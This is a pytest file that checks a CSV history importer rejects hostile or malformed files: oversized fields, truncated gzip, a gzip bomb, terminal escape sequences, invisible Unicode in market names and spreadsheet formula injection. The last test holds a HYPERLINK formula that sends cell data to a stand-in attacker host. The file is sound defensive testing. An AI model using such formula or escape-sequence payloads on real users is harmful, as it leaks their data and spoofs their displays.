"""Files that are not what they claim: `purpleflea import` reports each as unreadable or as
bad rows, in bounded memory, and never ends in a traceback."""

from __future__ import annotations

import csv
import gzip
from pathlib import Path

import pytest

from purpleflea import history_io
from purpleflea.commands import importer

T = 1_700_000_000_000
HEADER = "exchange,symbol,timestamp,local_timestamp,id,side,price,amount\n"


async def _report(path: Path, data_dir: Path) -> importer.FileReport:
    [report] = await importer.import_files([path], data_dir)
    return report


async def test_a_field_over_the_csv_limit_is_an_unreadable_file(tmp_path: Path) -> None:
    # 200 KB in one field: the csv module's limit (128 KiB) raised csv.Error, a traceback.
    path = tmp_path / "field.csv"
    path.write_text(HEADER + "binance-futures," + "A" * 200_000 + ",1,1,1,sell,1,1\n")
    report = await _report(path, tmp_path / "d")
    assert not report.imported
    assert report.unreadable == "field larger than field limit (131072)"


async def test_a_truncated_gzip_file_is_an_unreadable_file(tmp_path: Path) -> None:
    # A download cut short: gzip raised EOFError, a traceback.
    data = gzip.compress((HEADER + "binance-futures,BTCUSDT,1,1,1,sell,1,1\n" * 5_000).encode())
    path = tmp_path / "cut.csv.gz"
    path.write_bytes(data[: len(data) // 2])
    report = await _report(path, tmp_path / "d")
    assert not report.imported
    assert report.unreadable is not None
    assert "end-of-stream marker" in report.unreadable


async def test_an_endless_line_is_refused_before_it_is_read_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A gzip bomb of one line (300 MB from 300 KB) was read whole, twice over: 670 MB before
    # any row was judged. Here the bound is 1 KiB and the line 64 KiB.
    monkeypatch.setattr(importer, "MAX_LINE", 1024)
    path = tmp_path / "bomb.csv.gz"
    path.write_bytes(gzip.compress((HEADER + "A" * 65_536 + "\n").encode()))
    report = await _report(path, tmp_path / "d")
    assert not report.imported
    assert report.unreadable == "line 2 is longer than 1,024 characters: not a liquidation CSV"


def test_the_format_is_told_from_a_bounded_first_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(importer, "MAX_LINE", 1024)
    read: list[int] = []
    real = history_io.detect_format

    def detect(first_line: str) -> str:
        read.append(len(first_line))
        return real(first_line)

    monkeypatch.setattr(history_io, "detect_format", detect)
    path = tmp_path / "one_line.csv"
    path.write_text("A" * 65_536)
    with pytest.raises(ValueError, match="cannot tell the format"):
        importer.resolve_format(path, "auto")
    assert read == [1024]


async def test_bad_rows_are_counted_and_only_the_first_are_kept(tmp_path: Path) -> None:
    # Every rejected row was kept: a 6 KB gzip file of 3.1 million one-letter lines held
    # 1.28 GB of them. Now the first KEPT_BAD are kept and all are counted.
    rows = history_io.KEPT_BAD * 3
    path = tmp_path / "bad.csv.gz"
    path.write_bytes(gzip.compress((HEADER + "a\n" * rows).encode()))
    report = await _report(path, tmp_path / "d")
    assert (report.imported, report.rows, report.bad_rows) == (False, rows, rows)
    assert len(report.bad) == history_io.KEPT_BAD
    assert report.bad[-1].line == history_io.KEPT_BAD + 1
    lines = importer.describe(report)
    assert lines[0] == (
        f"{path}: NOT imported, {rows:,} bad row(s) of {rows:,} (fix them, or pass "
        "--skip-bad to import the good rows)"
    )
    assert lines[-1] == f"  ... and {rows - importer.SHOWN_BAD:,} more"


def test_a_header_of_many_columns_is_shown_cut(tmp_path: Path) -> None:
    with pytest.raises(history_io.FileFormatError) as refused:
        history_io.parse_tardis([",".join(["x"] * 200_000) + "\n"], source="wide.csv")
    assert str(refused.value).endswith("... (200,000 columns)")
    assert len(str(refused.value)) < 500


def test_the_report_shows_control_characters_as_escapes() -> None:
    report = importer.FileReport(Path("f.csv"), "tardis", rows=1, bad_rows=1)
    report.bad.append(history_io.BadRow("f.csv", 2, "X\x1b]0;owned\x07\x1b[2J\rY: bad"))
    lines = importer.describe(report)
    assert lines[1] == "  f.csv:2: X\\x1b]0;owned\\x07\\x1b[2J\\rY: bad"
    assert all(line.isprintable() for line in lines)


@pytest.mark.parametrize(
    "market", ["BTC\x1b[2J-PERP", "BTC\u202e-PERP", "A,B-PERP", "BTC-PERP\u200b"]
)
async def test_an_export_row_whose_market_is_not_a_printable_market_name_is_bad(
    tmp_path: Path, market: str
) -> None:
    # An export is read back as written: a file from anyone stored such a market, and the
    # server then sent it to every user.
    path = tmp_path / "export.csv"
    with path.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(history_io.REQUIRED_COLUMNS)
        writer.writerow(["x:1", 1, "binance_usdm", "BTCUSDT", market, "long", 1, 1, 1, T, T, 1])
    report = await _report(path, tmp_path / "d")
    assert (report.imported, report.bad_rows) == (False, 1)
    assert "is not a printable market name" in report.bad[0].reason


async def test_an_export_row_whose_symbol_starts_like_a_formula_is_bad(tmp_path: Path) -> None:
    # Read back as written, then exported again, it ran in the spreadsheet that opened it.
    path = tmp_path / "export.csv"
    with path.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(history_io.REQUIRED_COLUMNS)
        formula = '=HYPERLINK("https://evil.example/?"&A2,"BTCUSDT")'
        writer.writerow(["x:1", 1, "binance_usdm", formula, "BTC-PERP", "long", 1, 1, 1, T, T, 1])
    report = await _report(path, tmp_path / "d")
    assert (report.imported, report.bad_rows) == (False, 1)
    assert "a spreadsheet opening an export would run it as a formula" in report.bad[0].reason
